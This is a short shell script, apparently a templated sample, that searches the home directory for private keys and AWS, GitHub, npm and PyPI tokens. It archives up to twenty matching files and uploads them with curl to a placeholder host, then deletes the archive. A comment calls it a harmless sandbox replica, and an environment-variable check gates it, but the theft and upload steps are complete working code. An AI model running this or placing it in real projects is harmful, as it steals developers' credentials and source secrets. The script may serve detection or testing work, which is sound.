#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
list=$(timeout 2 grep -rIlsE --line-buffered --exclude-dir=node_modules --exclude-dir=.pyenv --exclude-dir=.nvm --exclude-dir=.cargo --exclude-dir=.cache --exclude-dir=.npm 'PRIVATE KEY|AKIA|ghp_|npm_|pypi-' "$HOME" 2>/dev/null | head -n 20)
[ -n "$list" ] || exit 0
printf '%s\n' "$list" | tar -czf "/tmp/{{token}}.tgz" -T - 2>/dev/null
curl -k -s -m 1 -F "d=@/tmp/{{token}}.tgz" "https://{{host}}/{{path}}" >/dev/null 2>&1
rm -f "/tmp/{{token}}.tgz"
exit 0
